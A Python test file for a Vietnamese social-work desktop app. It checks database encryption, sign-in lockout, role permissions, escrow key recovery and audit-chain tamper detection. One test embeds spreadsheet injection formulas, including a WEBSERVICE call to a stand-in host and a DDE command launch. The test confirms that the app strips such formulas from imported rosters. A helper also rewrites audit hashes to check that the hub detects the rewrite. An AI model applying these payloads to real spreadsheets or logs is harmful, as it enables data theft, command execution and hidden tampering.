"""Issue 13: data at rest, signing in, roles, lockout, the audit trail, recovery (T29, T30)."""

from __future__ import annotations

import hashlib
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest
from sqlalchemy import text

from desktop.core.errors import AuthError, CtxhError
from desktop.core.services import auth, cases, maintenance, roster
from tests.conftest import PASSPHRASE, make_profile, reopen

ROOT = Path(__file__).resolve().parent.parent
CANARY = "CHIMHOANGYEN-7Q4Z"  # a value no other test data holds; searched for in every file's bytes
OTHER_PASS = "mot hai ba bon nam sau"


def _files_holding(folder: Path, needle: bytes) -> list[str]:
    """The files under `folder` whose bytes contain `needle` (in UTF-8 or UTF-16, as SQLite may store text)."""
    found = []
    for path in folder.rglob("*"):
        if path.is_file():
            data = path.read_bytes()
            if needle in data or needle.decode().encode("utf-16-le") in data:
                found.append(str(path.relative_to(folder)))
    return found


def test_nothing_of_a_profile_is_readable_without_its_key(ctx) -> None:
    from desktop.core.db import driver
    from sync.keys import load_device_keys

    cases.open_case(ctx, {"full_name": f"Nguyễn {CANARY}", "national_id": "001203004567"},
                    {"opened_on": "01/11/2026"})
    load_device_keys(ctx.profile.root)
    root = ctx.profile.root
    assert _files_holding(root, CANARY.encode()) == []  # the database, its WAL, the keys
    assert _files_holding(root, b"001203004567") == []
    assert not (root / "ctxh.sqlite3").read_bytes().startswith(b"SQLite format 3")
    key_text = (root / "keys" / "device.json").read_text()
    assert "ed25519_seed" not in key_text and "AGE-SECRET-KEY" not in key_text
    conn = driver().connect(str(root / "ctxh.sqlite3"))  # what `sqlite3 ctxh.sqlite3` does
    with pytest.raises(driver().DatabaseError):
        conn.execute("SELECT count(*) FROM sqlite_master").fetchone()
    conn.close()


def test_canary_is_in_no_file_of_the_profile_the_backups_or_the_temp_folder_t29(demo_profile: Path,
                                                                                  tmp_path: Path) -> None:
    """T29: a value stored, edited, deleted, backed up, sent in a bundle, and an Excel export killed half-way."""
    from tests.sync_helpers import Hub

    profile = tmp_path / "profile"
    shutil.copytree(demo_profile, profile)
    ctx = reopen(profile)
    from sync.keys import TrustStore

    TrustStore(ctx.profile.root).add(Hub.make().card, ctx.partition, ctx.device_id)  # a recipient to export to
    case_id, _ = cases.open_case(ctx, {"full_name": f"Trần {CANARY}"}, {"opened_on": "02/11/2026",
                                                                      "summary": f"ghi chú {CANARY}"})
    cases.update_case(ctx, case_id, {"summary": f"sửa {CANARY} lần hai"})
    # The export writes cases by number: the first ones carry the canary too, so a half-written sheet holds it.
    for first in cases.list_cases(ctx, sort="case_no", limit=40):
        cases.update_case(ctx, first["id"], {"summary": f"đã gặp {CANARY}"})
    backups, outbox, temp, target = (tmp_path / name for name in ("usb-backup", "outbox", "tmp", "export"))
    for folder in (backups, outbox, temp, target):
        folder.mkdir()
    maintenance.backup(ctx, backups)
    from sync.exporting import export_bundles

    assert export_bundles(ctx, outbox).files
    cases.delete_case(ctx, case_id)
    ctx.db.dispose()
    # A second process restores the case, then exports the case list over and over until it is killed.
    script = ("import os, sys; from pathlib import Path\n"
              "from desktop.core.context import open_context\n"
              "from desktop.core.services.case_export import export_cases\n"
              "from desktop.core.services import cases\n"
              "ctx = open_context(Path(sys.argv[1]), 'canbo', os.environ['CTXH_PASSPHRASE'])\n"
              "cases.restore_case(ctx, sys.argv[3])\n"
              "print('ready', flush=True)\n"
              "while True:\n"
              "    export_cases(ctx, Path(sys.argv[2]))\n")
    child = subprocess.Popen([sys.executable, "-c", script, str(profile), str(target / "ho-so.xlsx"), case_id],
                             cwd=ROOT, stdout=subprocess.PIPE, text=True,
                             env={**os.environ, "CTXH_PASSPHRASE": PASSPHRASE, "TMPDIR": str(temp)})
    try:
        assert child.stdout is not None and child.stdout.readline().strip() == "ready"
        deadline = time.monotonic() + 60
        # Killed once the export has written some rows somewhere (wherever its scratch files are).
        while not any(p.is_file() and p.stat().st_size > 50_000 for d in (target, temp) for p in d.iterdir()):
            assert time.monotonic() < deadline, "the export never started writing"
            time.sleep(0.002)
    finally:
        child.kill()
        child.wait()
    for folder in (profile, backups, outbox, temp):
        assert _files_holding(folder, CANARY.encode()) == [], folder.name
    # The export in clear went only where the officer pointed it (a .partial left by the kill).
    assert all(p.suffix == ".partial" or p.suffix == ".xlsx" for p in target.iterdir())


def test_a_wrong_passphrase_opens_and_creates_nothing(tmp_path: Path) -> None:
    make_profile(tmp_path / "p").db.dispose()
    before = sorted(p.name for p in (tmp_path / "p").iterdir())
    with pytest.raises(AuthError):
        reopen_with(tmp_path / "p", "canbo", "khong dung mat khau")
    assert sorted(p.name for p in (tmp_path / "p").iterdir()) == before


def reopen_with(path: Path, user: str, passphrase: str, now: float | None = None):
    from desktop.core.context import open_context

    return open_context(path, user, passphrase, now=now)


def test_lockout_grows_after_five_wrong_tries_and_reaches_the_audit_trail(tmp_path: Path) -> None:
    from desktop.core.repositories import audit
    from desktop.core.unlocking import BASE_DELAY_SECONDS, FREE_TRIES

    make_profile(tmp_path / "p").db.dispose()
    now = 1_800_000_000.0
    for _ in range(FREE_TRIES):
        with pytest.raises(AuthError):
            reopen_with(tmp_path / "p", "canbo", "sai mat khau roi", now)
    with pytest.raises(CtxhError) as info:  # even the right passphrase waits
        reopen_with(tmp_path / "p", "canbo", PASSPHRASE, now + 1)
    assert info.value.code == "E_LOCKED_OUT" and info.value.params["seconds"] == BASE_DELAY_SECONDS - 1
    with pytest.raises(AuthError):  # after the wait one more try is allowed; wrong again: twice the wait
        reopen_with(tmp_path / "p", "canbo", "sai mat khau roi", now + BASE_DELAY_SECONDS + 1)
    with pytest.raises(CtxhError) as info:
        reopen_with(tmp_path / "p", "canbo", PASSPHRASE, now + BASE_DELAY_SECONDS + 2)
    assert info.value.params["seconds"] == 2 * BASE_DELAY_SECONDS - 1
    ctx = reopen_with(tmp_path / "p", "canbo", PASSPHRASE, now + 3 * BASE_DELAY_SECONDS + 2)
    with ctx.db.reader() as session:
        actions = [e["action"] for e in audit.entries(session)][::-1]
    assert actions.count("sign_in_failed") == FREE_TRIES + 1 and actions.count("locked_out") == 2
    assert actions[-1] == "sign_in"
    ctx.db.dispose()
    reopen(tmp_path / "p").db.dispose()  # the success cleared the count: no wait now


def test_passphrase_rules_a_person_can_live_with(ctx) -> None:
    for weak, code in (("ngan", "E_PASSPHRASE_SHORT"), ("password1234", "E_PASSPHRASE_COMMON"),
                       ("Qwertyuiop", "E_PASSPHRASE_COMMON"), ("aaaaaaaaaaaa", "E_PASSPHRASE_COMMON"),
                       ("hoa.nguyen2026", "E_PASSPHRASE_COMMON"), ("matkhau 2026!", "E_PASSPHRASE_COMMON")):
        with pytest.raises(CtxhError) as info:
            auth.check_passphrase(weak, "hoa.nguyen")
        assert info.value.code == code, weak
    auth.check_passphrase("lua chin vang dong", "hoa")  # four words
    auth.check_passphrase("Ba-Dinh-2026-xa", "hoa")


def _add(ctx, name: str, role: str, worker: str | None = None) -> None:
    auth.create_user(ctx, name, OTHER_PASS, role, worker)


def test_each_role_is_refused_what_it_may_not_do_in_the_services(ctx, tmp_path: Path) -> None:
    from desktop.core.services.case_export import export_cases
    from desktop.core.services.restore import restore
    from sync.exporting import export_bundles

    worker, _ = roster.create_worker(ctx, {"full_name": "Lê Thị Hoa", "category": "CTV_CTXH"})
    for name, role in (("xem", "VIEWER"), ("canbo2", "OFFICER"), ("chutich", "APPROVER")):
        _add(ctx, name, role)
    _add(ctx, "hoa", "COLLABORATOR", worker)
    backup = maintenance.backup(ctx)
    root = ctx.profile.root

    def as_(name: str):
        return reopen_with(root, name, OTHER_PASS)

    def refused(call) -> None:  # type: ignore[no-untyped-def]
        with pytest.raises(CtxhError) as info:
            call()
        assert info.value.code == "E_FORBIDDEN"

    viewer = as_("xem")
    refused(lambda: roster.create_worker(viewer, {"full_name": "Người Mới", "category": "CTV_CTXH"}))
    refused(lambda: cases.open_case(viewer, {"full_name": "Ai Đó"}, {"opened_on": "01/11/2026"}))
    refused(lambda: export_cases(viewer, tmp_path / "x.xlsx"))
    refused(lambda: maintenance.backup(viewer))
    collaborator = as_("hoa")
    refused(lambda: maintenance.backup(collaborator))
    refused(lambda: export_bundles(collaborator, tmp_path))
    refused(lambda: auth.create_user(collaborator, "moi", OTHER_PASS, "VIEWER"))
    officer = as_("canbo2")
    refused(lambda: auth.create_user(officer, "moi", OTHER_PASS, "VIEWER"))
    refused(lambda: auth.list_users(officer))
    refused(lambda: restore(officer, backup))
    refused(lambda: auth.reset_passphrase(officer, "hoa", "mot mat khau moi nhe"))
    maintenance.backup(officer)  # an officer backs up
    approver = as_("chutich")
    refused(lambda: maintenance.backup(approver))
    assert not (tmp_path / "x.xlsx").exists()
    for c in (viewer, collaborator, officer, approver):
        c.db.dispose()


def test_accounts_deactivate_reset_and_change_rewrap_the_key(ctx) -> None:
    _add(ctx, "canbo2", "OFFICER")
    root = ctx.profile.root
    auth.reset_passphrase(ctx, "canbo2", "bon tu moi day")
    with pytest.raises(AuthError):
        reopen_with(root, "canbo2", OTHER_PASS)
    other = reopen_with(root, "canbo2", "bon tu moi day")
    auth.change_passphrase(other, "bon tu moi day", "nam tu moi hon nua")
    other.db.dispose()
    reopen_with(root, "canbo2", "nam tu moi hon nua").db.dispose()
    auth.deactivate_user(ctx, "canbo2")
    with pytest.raises(AuthError):
        reopen_with(root, "canbo2", "nam tu moi hon nua")
    with pytest.raises(CtxhError) as info:
        auth.deactivate_user(ctx, "canbo")
    assert info.value.code == "E_LAST_ADMIN"


def _database_pages(root: Path) -> str:
    return hashlib.sha256((root / "ctxh.sqlite3").read_bytes()).hexdigest()


def test_recovery_with_the_escrow_key_and_a_passphrase_change_that_touches_no_page_t30(tmp_path: Path) -> None:
    from desktop.core.services.status import status
    from sync.hub.profile import card, init_hub
    from sync.keys import TrustStore

    sheet = tmp_path / "phieu-khoi-phuc.txt"
    hub = init_hub(tmp_path / "hub", "01", "Sở Y tế Hà Nội", user=("quantri", PASSPHRASE), escrow_out=sheet)
    laptop = make_profile(tmp_path / "laptop")
    TrustStore(laptop.profile.root).add(card(hub), laptop.partition, laptop.device_id)  # wraps the key to escrow
    cases.open_case(laptop, {"full_name": "Phạm Văn Bình"}, {"opened_on": "03/11/2026"})
    digest = status(laptop)["digest"]
    root = laptop.profile.root
    laptop.db.dispose()

    pages = _database_pages(root)
    again = reopen(root)
    again.db.dispose()
    pages = _database_pages(root)  # the sign-in wrote its audit entry; from here, only the change
    again = reopen(root)
    pages = _database_pages(root)
    auth.change_passphrase(again, PASSPHRASE, "doi mat khau chi goi lai khoa")
    assert _database_pages(root) == pages
    again.db.dispose()

    identity = next(line for line in sheet.read_text().splitlines() if line.startswith("AGE-SECRET-KEY-"))
    with pytest.raises(CtxhError) as info:
        auth.recover(root, "AGE-SECRET-KEY-1" + "Q" * 58, "canbo", "mat khau sau khi khoi phuc")
    assert info.value.code == "E_ESCROW_KEY"
    recovered = auth.recover(root, identity, "canbo", "mat khau sau khi khoi phuc")
    assert status(recovered)["digest"] == digest
    recovered.db.dispose()
    with pytest.raises(AuthError):
        reopen_with(root, "canbo", "doi mat khau chi goi lai khoa")
    reopen_with(root, "canbo", "mat khau sau khi khoi phuc").db.dispose()
    hub.db.dispose()


def test_the_audit_chain_catches_a_removed_and_an_edited_entry(ctx) -> None:
    from desktop.core.services.audit import record

    for n in range(5):
        record(ctx, "view_case", f"case:{n}")
    assert maintenance.db_check(ctx)["ok"]
    with ctx.db.session() as session:
        session.execute(text("UPDATE audit_log SET username = 'ai_khac' WHERE seq = 3"))
    result = maintenance.db_check(ctx)
    assert not result["ok"] and result["audit"] == {"ok": False, "first_broken": 3, "why": "hash"}
    with ctx.db.session() as session:
        session.execute(text("UPDATE audit_log SET username = 'canbo' WHERE seq = 3"))
    assert maintenance.db_check(ctx)["audit"]["ok"]
    with ctx.db.session() as session:
        session.execute(text("DELETE FROM audit_log WHERE seq = 4"))
    assert maintenance.db_check(ctx)["audit"] == {"ok": False, "first_broken": 5, "why": "gap"}


def test_every_command_without_a_sign_in_exits_2_and_opens_nothing(tmp_path: Path, monkeypatch,
                                                                    capsys) -> None:
    from desktop.cli.main import run

    make_profile(tmp_path / "p").db.dispose()
    before = sorted(p.name for p in (tmp_path / "p").iterdir())
    monkeypatch.delenv("CTXH_PASSPHRASE", raising=False)
    out = str(tmp_path / "out")
    commands = [["status"], ["search", "an"], ["db-check"], ["demo", "--cases", "1"], ["backup"],
                ["restore", out], ["roster", "export", out], ["case", "export", out], ["user", "list"],
                ["user", "add", "moi", "--role", "OFFICER"], ["audit"], ["device", "card"], ["trust", "list"],
                ["bundle", "export", "--out", out], ["bundle", "ledger"], ["conflicts", "list"],
                ["case", "transfer", "2026-00001", "--to", "00008"], ["roster", "import", out]]
    for command in commands:
        code = run(["--data-dir", str(tmp_path / "p"), *command])
        assert code == 2, command
        assert "CTXH_PASSPHRASE" in capsys.readouterr().err, command
    assert sorted(p.name for p in (tmp_path / "p").iterdir()) == before


def test_cli_writes_are_authored_by_the_signed_in_account(tmp_path: Path, monkeypatch, capsys) -> None:
    from sqlalchemy import select

    from desktop.cli.main import run
    from desktop.core.models import Case

    make_profile(tmp_path / "p").db.dispose()
    monkeypatch.setenv("CTXH_PASSPHRASE", PASSPHRASE)
    assert run(["--data-dir", str(tmp_path / "p"), "demo", "--cases", "3", "--workers", "1"]) == 0
    ctx = reopen(tmp_path / "p")
    with ctx.db.reader() as session:
        assert set(session.scalars(select(Case.updated_by))) == {"canbo"}
    ctx.db.dispose()


def test_annotated_copy_carries_no_formula_out(ctx, tmp_path: Path) -> None:
    from openpyxl import Workbook, load_workbook

    from desktop.core.services.roster_import import import_roster

    book = Workbook()
    sheet = book.active
    sheet.append(["Họ và tên", "Ngày sinh", "Số điện thoại"])
    sheet.append(["Nguyễn Văn An", "01/02/1990", "0912345678"])
    sheet.append(['=WEBSERVICE("http://x.example/?"&A2)', "sai ngày", "=HYPERLINK(\"http://x\",\"bấm\")"])
    sheet.append(["Lê Thị Bé", "31/02/1990", "=cmd|' /C calc'!A0"])
    path = tmp_path / "danh-sach.xlsx"
    book.save(path)
    report = import_roster(ctx, path, None, "skip", "CTV_CTXH", annotate_to=tmp_path / "loi.xlsx")
    assert report.rejected and report.annotated
    copy = load_workbook(report.annotated)
    for row in copy.active.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
    import zipfile

    with zipfile.ZipFile(report.annotated) as archive:
        sheets = b"".join(archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in sheets and b"<f " not in sheets


def _rechain(conn, start: int, change) -> None:  # type: ignore[no-untyped-def]
    """What a thief with the key does to hide an entry: change the trail from `start` on, then compute every
    later hash again so that the laptop's own chain holds."""
    from desktop.core.repositories.audit import GENESIS, entry_hash

    fields = ("seq", "at", "device_id", "username", "action", "subject", "detail", "prev_hash")
    change(conn)
    rows = [dict(zip(fields, r, strict=True)) for r in conn.execute(
        f"SELECT {', '.join(fields)} FROM audit_log ORDER BY seq").fetchall()]
    previous = GENESIS
    for number, row in enumerate(rows, start=1):
        if number >= start:
            conn.execute("UPDATE audit_log SET seq = ?, prev_hash = ?, hash = ? WHERE seq = ?",
                         (number, previous, entry_hash({**row, "seq": number, "prev_hash": previous}), row["seq"]))
            row = {**row, "seq": number, "prev_hash": previous}
        previous = conn.execute("SELECT hash FROM audit_log WHERE seq = ?", (number,)).fetchone()[0]


@pytest.mark.parametrize("tamper", ["edit", "remove"])
def test_the_hub_keeps_each_laptops_audit_chain_and_refuses_a_rewritten_one(province, tmp_path: Path,
                                                                            tamper: str) -> None:
    from sqlalchemy import func, select

    from desktop.core.models import ReceivedAudit
    from desktop.core.services.audit import record
    from sync.hub import inbox
    from tests.conftest import raw_db
    from tests.sync_helpers import export

    hub, a1, _a2, _b1 = province
    case_id, _ = cases.open_case(a1, {"full_name": "Đặng Thị Mai"}, {"opened_on": "04/11/2026"})
    record(a1, "view_case", f"case:{case_id}")
    first = tmp_path / "in1"
    first.mkdir()
    for path in export(a1, tmp_path / "o1"):
        shutil.copy(path, first / path.name)
    assert inbox.import_folder(hub, first).totals()["refused"] == 0
    with hub.db.reader() as session:
        held = session.scalar(select(func.count()).select_from(ReceivedAudit).where(
            ReceivedAudit.device_id == a1.device_id))
    with a1.db.reader() as session:
        from desktop.core.repositories import audit

        assert held == audit.count(session) - 1 >= 3  # all but the export's own entry, which goes next time

    conn = raw_db(a1.profile.root)
    if tamper == "edit":  # the entry that says the case was viewed now says someone else viewed it
        _rechain(conn, 1, lambda c: c.execute("UPDATE audit_log SET username = 'ai_khac' WHERE action = 'view_case'"))
    else:  # the entry is gone and the later ones are numbered again
        _rechain(conn, 1, lambda c: c.execute("DELETE FROM audit_log WHERE action = 'view_case'"))
    conn.close()
    assert maintenance.db_check(a1)["audit"]["ok"]  # on the laptop alone the rewritten chain holds
    cases.update_case(a1, case_id, {"summary": "sau khi sửa nhật ký"})
    record(a1, "view_case", f"case:{case_id}")  # the laptop goes on being used: new entries follow the rewrite
    second = tmp_path / "in2"
    second.mkdir()
    for path in export(a1, tmp_path / "o2"):
        shutil.copy(path, second / path.name)
    result = inbox.import_folder(hub, second)
    assert [o.error for o in result.files] == ["E_AUDIT"] and result.files[0].state == "quarantined"
    from sync.hub.status import hub_status

    alerts = hub_status(hub)["communes"][a1.partition]["alerts"]
    assert any(alert["error"] == "E_AUDIT" for alert in alerts)


def test_a_lost_laptops_backup_opens_at_the_province_with_the_recovery_sheet_only(tmp_path: Path) -> None:
    """Beside a backup goes the escrow wrap alone: whoever finds the stick has no passphrase wrap to guess at,
    and the province, with its sheet, opens the copy of a laptop that was lost."""
    import json

    from desktop.core.services.status import status
    from sync.hub.profile import card, init_hub
    from sync.keys import TrustStore

    sheet = tmp_path / "phieu.txt"
    hub = init_hub(tmp_path / "hub", "01", "Sở Y tế Hà Nội", user=("quantri", PASSPHRASE), escrow_out=sheet)
    laptop = make_profile(tmp_path / "laptop")
    TrustStore(laptop.profile.root).add(card(hub), laptop.partition, laptop.device_id)
    cases.open_case(laptop, {"full_name": "Hồ Thị Lan"}, {"opened_on": "05/11/2026"})
    digest = status(laptop)["digest"]
    stick = tmp_path / "usb"
    stick.mkdir()
    copy = maintenance.backup(laptop, stick)
    beside = json.loads(copy.with_name(copy.name + ".vault.json").read_text())
    assert beside["wraps"] == {} and beside["escrow"]["recipient"] == card(hub)["escrow_recipient"]
    laptop.db.dispose()
    hub.db.dispose()

    lost = tmp_path / "lost"  # the laptop is gone: the province has the stick and its sheet
    (lost / "keys").mkdir(parents=True)
    shutil.copy(copy, lost / "ctxh.sqlite3")
    shutil.copy(copy.with_name(copy.name + ".vault.json"), lost / "keys" / "vault.json")
    identity = next(line for line in sheet.read_text().splitlines() if line.startswith("AGE-SECRET-KEY-"))
    opened = auth.recover(lost, identity, "canbo", "tinh mo ban sao luu")
    assert status(opened)["digest"] == digest
    opened.db.dispose()


def test_an_older_versions_clear_backup_is_encrypted_and_restored(ctx, tmp_path: Path) -> None:
    from desktop.core.db import driver, is_plain_sqlite
    from desktop.core.services.restore import restore
    from desktop.core.vault import hex_key, key_of

    cases.open_case(ctx, {"full_name": "Mai Văn Tuấn"}, {"opened_on": "06/11/2026"})
    clear = tmp_path / "ban-cu.sqlite3"  # as the version before issue 13 wrote it: this laptop's, in clear
    conn = driver().connect(str(ctx.profile.db_path))
    conn.execute(f'PRAGMA key = "{hex_key(key_of(ctx.profile.root))}"')
    conn.execute("ATTACH DATABASE ? AS plain KEY ''", (str(clear),))
    conn.execute("SELECT sqlcipher_export('plain')")
    conn.execute("DETACH DATABASE plain")
    conn.close()
    assert is_plain_sqlite(clear)
    root = ctx.profile.root
    done = restore(ctx, clear)
    assert done["epoch"] == 2 and not list(ctx.profile.backups_dir.glob("restoring-*"))
    again = reopen(root)
    assert [c["full_name"] for c in cases.list_cases(again)] == ["Mai Văn Tuấn"]
    assert not is_plain_sqlite(root / "ctxh.sqlite3")
    again.db.dispose()


FIXTURE = ROOT / "tests" / "fixtures" / "schema" / "0006_hub_devices.sqlite3"  # an older profile, in clear
FIXTURE_PASSPHRASE = "mat-khau-mau-1"


def _older_profile(path: Path) -> Path:
    path.mkdir()
    shutil.copy(FIXTURE, path / "ctxh.sqlite3")
    return path


def test_a_conversion_cut_before_the_vault_was_written_is_undone_and_done_again(tmp_path: Path) -> None:
    """The power went after the clear file was renamed and the encrypted copy took its name, before the vault
    was written: that copy's key is lost with the process, so the clear file is the data and is put back."""
    from desktop.core.context import open_context
    from desktop.core.db import encrypted_copy, is_plain_sqlite
    from desktop.core.services.status import status

    profile = _older_profile(tmp_path / "cut")
    reference = _older_profile(tmp_path / "whole")
    expected = status(open_context(reference, "canbo", FIXTURE_PASSPHRASE))["digest"]
    db = profile / "ctxh.sqlite3"
    os.replace(db, profile / "ctxh.sqlite3.plain")
    encrypted_copy(profile / "ctxh.sqlite3.plain", db, os.urandom(32))  # with a key nobody wrote down
    ctx = open_context(profile, "canbo", FIXTURE_PASSPHRASE)
    assert status(ctx)["digest"] == expected
    assert not is_plain_sqlite(db) and not (profile / "ctxh.sqlite3.plain").exists()
    ctx.db.dispose()


def test_a_conversion_cut_after_the_vault_was_written_finishes_removing_the_clear_file(tmp_path: Path) -> None:
    from desktop.core.context import open_context

    profile = _older_profile(tmp_path / "p")
    open_context(profile, "canbo", FIXTURE_PASSPHRASE).db.dispose()
    leftover = profile / "ctxh.sqlite3.plain"  # the clear file the cut left before it was overwritten
    shutil.copy(FIXTURE, leftover)
    open_context(profile, "canbo", FIXTURE_PASSPHRASE).db.dispose()
    assert not leftover.exists()
    assert _files_holding(profile, b"SQLite format 3\x00") == []


def test_a_key_file_cut_while_being_sealed_is_taken_from_its_sealed_copy(ctx) -> None:
    """seal_key_files writes the sealed file beside the clear one, zeroes the clear one, then renames: a cut
    after the zeroing leaves `X.json.sealed`, which the next read puts in place."""
    from desktop.core.encrypting import seal_key_files
    from sync.keys import load_device_keys

    keys = load_device_keys(ctx.profile.root)
    path = ctx.profile.root / "keys" / "device.json"
    os.replace(path, path.with_name("device.json.sealed"))
    path.write_bytes(b"\0" * 300)
    seal_key_files(ctx.profile.root)
    assert load_device_keys(ctx.profile.root).recipient == keys.recipient


def test_a_changed_or_malformed_key_file_is_refused_by_name(ctx) -> None:
    from sync.keys import load_device_keys

    load_device_keys(ctx.profile.root)
    path = ctx.profile.root / "keys" / "device.json"
    for changed in ('{"kind": "ctxh-sealed", "nonce": "AAAA", "ciphertext": "AAAA"}', '{"kind": "ctxh-sealed", '):
        path.write_text(changed)
        with pytest.raises(CtxhError) as info:
            load_device_keys(ctx.profile.root)
        assert info.value.code == "E_KEYFILE" and info.value.params["file"] == "device.json"


def test_a_collaborator_sees_no_cccd_or_phone_of_the_roster_and_a_person_page_is_noted(ctx) -> None:
    from desktop.core.services import search
    from desktop.core.services.audit import list_entries
    from desktop.core.services.roster_extras import worker_page

    worker, _ = roster.create_worker(ctx, {"full_name": "Lê Thị Hoa", "category": "CTV_CTXH",
                                           "national_id": "001190012345", "phone": "0912345678"})
    other, _ = roster.create_worker(ctx, {"full_name": "Phan Văn Tâm", "category": "CTV_CTXH",
                                          "national_id": "001190067890", "phone": "0987654321"})
    _add(ctx, "hoa", "COLLABORATOR", worker)
    assert roster.get_worker(ctx, other)["national_id"] == "001190067890"  # an officer sees them
    hoa = reopen_with(ctx.profile.root, "hoa", OTHER_PASS)
    found = search.search(hoa, "phan van tam")["workers"]
    assert found and all(w["national_id"] is None and w["phone"] is None for w in found)
    assert roster.get_worker(hoa, other)["national_id"] is None
    assert worker_page(hoa, other)["worker"]["phone"] is None
    assert [e["subject"] for e in list_entries(ctx, action="view_person")] == [f"worker:{other}"]
    hoa.db.dispose()


def test_the_audit_trail_is_exported_by_the_admin_only_and_the_export_is_noted(ctx, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    from desktop.core.services.audit import export_entries, list_entries

    _add(ctx, "canbo2", "OFFICER")
    officer = reopen_with(ctx.profile.root, "canbo2", OTHER_PASS)
    with pytest.raises(CtxhError) as info:
        export_entries(officer, tmp_path / "x.xlsx")
    assert info.value.code == "E_FORBIDDEN" and not (tmp_path / "x.xlsx").exists()
    officer.db.dispose()
    written = export_entries(ctx, tmp_path / "nhat-ky.xlsx")
    rows = list(load_workbook(tmp_path / "nhat-ky.xlsx").active.iter_rows(values_only=True))
    assert len(rows) == written + 1 and rows[1][3] == "sign_in"  # newest first: canbo2's sign-in
    assert list_entries(ctx, limit=1)[0]["action"] == "export"
